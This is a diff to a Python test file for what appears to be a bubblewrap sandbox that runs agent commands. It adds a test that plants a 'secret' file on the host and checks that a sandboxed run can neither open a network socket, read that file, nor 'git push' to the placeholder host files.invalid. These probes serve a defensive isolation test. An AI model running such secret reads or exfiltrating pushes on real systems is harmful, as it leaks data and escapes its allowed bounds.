@@ -4,6 +4,7 @@ import json
 import random
 from collections.abc import Awaitable, Callable
 from dataclasses import dataclass, replace
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -559,10 +560,11 @@ async def test_the_evidence_stays_small_whatever_is_in_the_way(play: Play) -> No
 
 
 @needs_bubblewrap
-async def test_there_is_no_way_to_a_network_or_the_host(play: Play) -> None:
+async def test_there_is_no_way_to_a_network_or_the_host(play: Play, tmp_path: Path) -> None:
+    (tmp_path / "secret").write_text("of the host")
     reach = "python3 -c 'import socket; socket.create_connection((\"1.1.1.1\", 53), 2)' 2>&1 | tail -n 1"
     played = await play(
-        f"{reach}; ls /work /root", "git push https://files.invalid/x.git main; echo $?", SUBMIT
+        f"{reach}; cat {tmp_path}/secret", "git push https://files.invalid/x.git main; echo $?", SUBMIT
     )
     assert "Network is unreachable" in played.evidence.calls[0].result
     assert "No such file" in played.evidence.calls[0].result
